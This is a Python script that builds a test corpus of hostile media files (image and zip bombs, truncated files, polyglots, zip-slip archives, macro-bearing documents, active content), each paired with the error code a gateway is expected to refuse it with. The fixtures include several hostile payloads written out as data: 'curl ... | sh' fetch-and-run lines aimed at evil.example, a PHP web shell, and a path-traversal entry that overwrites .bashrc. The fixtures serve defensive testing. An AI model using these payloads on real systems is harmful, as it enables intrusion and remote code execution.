#!/usr/bin/env python3
"""Writes the hostile half of the media corpus: files that the gateway must refuse, each with the error code it must
refuse them with, listed in manifest.tsv (file, expected code, what the file is).

    scripts/make-hostile-media.py OUTPUT-DIRECTORY

scripts/make-media-corpus runs it. The files are made with real tools: images with Pillow (pip install pillow),
archives with Python's zipfile, text as written by hand. Where a tool cannot make the hostile shape (a header that
lies about its dimensions, a central directory that points twice at one entry), the tool's output is edited
afterwards, and the manifest says so. Every file is small (the bombs are bombs by their headers, not their bytes).
"""

import io
import os
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib

from PIL import Image

out = sys.argv[1] if len(sys.argv) > 1 else "Tests/WACoreTests/Fixtures/Media/hostile"
os.makedirs(out, exist_ok=True)
for name in os.listdir(out):
    os.remove(os.path.join(out, name))
manifest = []


def write(name, data, code, what):
    with open(os.path.join(out, name), "wb") as handle:
        handle.write(data)
    manifest.append((name, code, what))


def pillow(image, format, **options):
    buffer = io.BytesIO()
    image.save(buffer, format=format, **options)
    return buffer.getvalue()


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED):
    """A zip made by zipfile; entries are (ZipInfo or name, bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for info, data in entries:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info, date_time=(2026, 1, 1, 0, 0, 0))
                info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def central_directory(data):
    """The end record's offset, the central directory's offset and size, and its entries' (offset, length)."""
    end = data.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", data, end + 10)
    entries, position = [], start
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        length = 46 + name_length + extra_length + comment_length
        entries.append((position, length))
        position += length
    return end, start, size, entries


def with_directory(data, records):
    """`data` with its central directory replaced by `records` (and the end record fixed to match)."""
    end, start, size, _ = central_directory(data)
    directory = b"".join(records)
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, len(records), len(records), len(directory))
    return data[:start] + directory + data[start + size:end] + bytes(tail)


def png_chunks(data):
    position, chunks = 8, []
    while position < len(data):
        (length,) = struct.unpack_from(">I", data, position)
        chunks.append((data[position + 4:position + 8], position, length))
        position += 12 + length
    return chunks


# Images ---------------------------------------------------------------------------------------------------------

gradient = Image.linear_gradient("L").resize((64, 48)).convert("RGB")
png = pillow(gradient, "PNG")
jpeg = pillow(gradient, "JPEG", quality=80)
gif = pillow(gradient.convert("P"), "GIF")
frames = [Image.new("RGB", (32, 32), color) for color in ("red", "blue")]
webp_animated = pillow(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=200, loop=0)
webp = pillow(gradient, "WEBP", quality=70)

# A real bomb: 12,000 × 12,000 one-bit pixels (144 million) in a few kilobytes.
write("bomb.png", pillow(Image.new("1", (12000, 12000)), "PNG", optimize=True), "media_decompression_bomb",
      "Pillow: a 12,000 x 12,000 PNG of one colour (144 Mpx) in a few KB")

# Headers that lie: the dimensions rewritten after Pillow wrote a small image.
lying_gif = bytearray(gif)
struct.pack_into("<HH", lying_gif, 6, 30000, 30000)
descriptor = 13 + (3 << ((lying_gif[10] & 7) + 1) if lying_gif[10] & 0x80 else 0)
while lying_gif[descriptor] == 0x21:  # skip extension blocks up to the first image descriptor
    descriptor += 2
    while lying_gif[descriptor]:
        descriptor += lying_gif[descriptor] + 1
    descriptor += 1
assert lying_gif[descriptor] == 0x2C
struct.pack_into("<HH", lying_gif, descriptor + 5, 30000, 30000)
write("bomb.gif", bytes(lying_gif), "media_decompression_bomb",
      "Pillow GIF, screen and frame rewritten to 30,000 x 30,000")

lying_jpeg = bytearray(jpeg)
sof = lying_jpeg.index(b"\xff\xc0")
struct.pack_into(">HH", lying_jpeg, sof + 5, 60000, 60000)
write("bomb.jpg", bytes(lying_jpeg), "media_decompression_bomb", "Pillow JPEG, SOF0 rewritten to 60,000 x 60,000")

lying_webp = bytearray(webp_animated)
assert lying_webp[12:16] == b"VP8X"
lying_webp[24:27] = (16383).to_bytes(3, "little")  # canvas width - 1
lying_webp[27:30] = (16383).to_bytes(3, "little")  # canvas height - 1
write("bomb.webp", bytes(lying_webp), "media_decompression_bomb",
      "Pillow animated WebP, VP8X canvas rewritten to 16,384 x 16,384 (x 2 frames)")

iend = [offset for kind, offset, _ in png_chunks(png) if kind == b"IEND"][0]
write("truncated.png", png[:iend], "media_truncated", "Pillow PNG without its IEND chunk")
write("truncated-idat.png", png[:len(png) // 2], "media_truncated", "Pillow PNG cut inside its image data")
write("truncated.jpg", jpeg[:len(jpeg) - 2], "media_truncated", "Pillow JPEG without its EOI marker")
write("truncated.gif", gif[:-1], "media_truncated", "Pillow GIF without its trailer")
write("truncated.webp", webp[:len(webp) - 10], "media_truncated", "Pillow WebP cut before its RIFF end")

corrupt = bytearray(png)
idat = [offset for kind, offset, _ in png_chunks(png) if kind == b"IDAT"][0]
corrupt[idat + 10] ^= 0xFF
write("bad-crc.png", bytes(corrupt), "media_malformed", "Pillow PNG with one byte of IDAT changed (CRC mismatch)")

html = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>\n"
write("polyglot-html.png", png + html, "media_trailing_data", "Pillow PNG followed by an HTML page")
write("polyglot-zip.jpg", jpeg + zip_bytes([("payload.txt", b"hidden payload\n" * 20)]), "media_trailing_data",
      "Pillow JPEG followed by a zip archive (zipfile)")
write("polyglot-script.gif", gif + b"\n#!/bin/sh\necho 'this GIF is also a shell script'\n" * 3,
      "media_trailing_data", "Pillow GIF followed by a shell script")
write("trailing.webp", webp + b"\x00" * 16 + html, "media_trailing_data", "Pillow WebP with data after its RIFF end")

# Archives -------------------------------------------------------------------------------------------------------

write("absolute-path.zip", zip_bytes([("/etc/cron.d/evil", b"* * * * * root sh -c 'id'\n")]), "media_unsafe_path",
      "zipfile: an entry named /etc/cron.d/evil")
write("zip-slip.zip", zip_bytes([("docs/readme.txt", b"fine\n"), ("../../home/user/.bashrc", b"curl evil | sh\n")]),
      "media_unsafe_path", "zipfile: an entry named ../../home/user/.bashrc")
write("backslash.zip", zip_bytes([("..\\..\\Windows\\Startup\\evil.bat", b"@echo off\n")]), "media_unsafe_path",
      "zipfile: an entry named ..\\..\\Windows\\Startup\\evil.bat")
write("ratio-bomb.zip", zip_bytes([("zeros.bin", bytes(64 << 20))]), "media_decompression_bomb",
      "zipfile: 64 MiB of zeros deflated to about 64 KB (ratio about 1,000)")

sized = bytearray(zip_bytes([("a.txt", b"a" * 1000), ("b.txt", b"b" * 1000)]))
_, _, _, records = central_directory(bytes(sized))
for position, _ in records:
    struct.pack_into("<I", sized, position + 24, 0xFFFF_FFFE)  # declared uncompressed size: 4 GiB each
write("declared-size-bomb.zip", bytes(sized), "media_decompression_bomb",
      "zipfile, its central directory rewritten to declare 4 GiB per entry")

single = zip_bytes([("payload.txt", b"overlap " * 4096)])
_, _, _, records = central_directory(single)
record = single[records[0][0]:records[0][0] + records[0][1]]
write("overlap-bomb.zip", with_directory(single, [record] * 8), "media_decompression_bomb",
      "zipfile, its central directory rewritten to point 8 entries at one local entry (overlapping entries)")

pair = zip_bytes([("visible.txt", b"what unzip shows\n"), ("hidden.sh", b"what a streaming extractor runs\n")])
_, _, _, records = central_directory(pair)
first = pair[records[0][0]:records[0][0] + records[0][1]]
write("hidden-entry.zip", with_directory(pair, [first]), "media_malformed",
      "zipfile, one local entry left out of its central directory")

renamed = bytearray(zip_bytes([("invoice.exe", b"MZ" + bytes(100))]))
_, _, _, records = central_directory(bytes(renamed))
name_at = records[0][0] + 46
renamed[name_at:name_at + 11] = b"invoice.pdf"
write("name-mismatch.zip", bytes(renamed), "media_malformed",
      "zipfile, the central directory names invoice.pdf what the local header names invoice.exe")

plain = zip_bytes([("readme.txt", b"just a file\n" * 50)])
write("truncated.zip", plain[:plain.rindex(b"PK\x05\x06") + 10], "media_truncated",
      "zipfile, cut inside its end record")
write("trailing.zip", plain + html * 4, "media_trailing_data", "zipfile, followed by an HTML page")

content_types = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                 b'2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
document = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>')
write("no-main-part.docx",
      zip_bytes([("[Content_Types].xml", content_types), ("_rels/.rels", rels), ("word/styles.xml", b"<styles/>")]),
      "media_malformed", "zipfile: a Word package without word/document.xml")
write("macros.docx",
      zip_bytes([("[Content_Types].xml", content_types), ("_rels/.rels", rels), ("word/document.xml", document),
                 ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))]),
      "media_malformed", "zipfile: a .docx (no macros allowed) carrying word/vbaProject.bin")
odt_mimetype = zipfile.ZipInfo("mimetype", date_time=(2026, 1, 1, 0, 0, 0))
odt_mimetype.compress_type = zipfile.ZIP_STORED
write("no-manifest.odt",
      zip_bytes([(odt_mimetype, b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office:document/>")]),
      "media_malformed", "zipfile: an OpenDocument text without META-INF/manifest.xml")

# Text that is active content, and text that stops being text ---------------------------------------------------

write("page.html", html, "media_active_content", "an HTML page")
write("page-utf16.html", "\ufeff<html><body><script>alert(1)</script></body></html>\n".encode("utf-16-le"),
      "media_active_content", "an HTML page in UTF-16 with a byte-order mark")
write("drawing.svg",
      b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
      b'<script>alert(1)</script><rect width="10" height="10"/></svg>\n',
      "media_active_content", "an SVG drawing with a script")
write("styled.xml",
      b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>\n<data/>\n',
      "media_active_content", "XML that names a style sheet")
write("script.sh", b"#!/bin/sh\ncurl https://evil.example/payload | sh\n", "media_active_content", "a shell script")
write("script.php", b"<?php system($_GET['c']); ?>\n", "media_active_content", "a PHP script")
write("text-then-binary.txt", b"A long and innocent text.\n" * 3000 + b"\x7fELF\x02\x01\x01" + bytes(64),
      "media_malformed", "78 KB of text followed by an ELF header, past the sniffer's first 64 KiB")

def file_verdict(name):
    """What `file --mime-type` takes the file for (the disguise), or `-` without `file`."""
    if not shutil.which("file"):
        return "-"
    result = subprocess.run(["file", "-b", "--mime-type", os.path.join(out, name)], capture_output=True, text=True)
    return result.stdout.strip() or "-"


with open(os.path.join(out, "manifest.tsv"), "w") as handle:
    handle.write("file\tfile_mime_type\texpected_code\twhat\n")
    for name, code, what in sorted(manifest):
        handle.write(f"{name}\t{file_verdict(name)}\t{code}\t{what}\n")
print(f"make-hostile-media: {len(manifest)} hostile files in {out}")
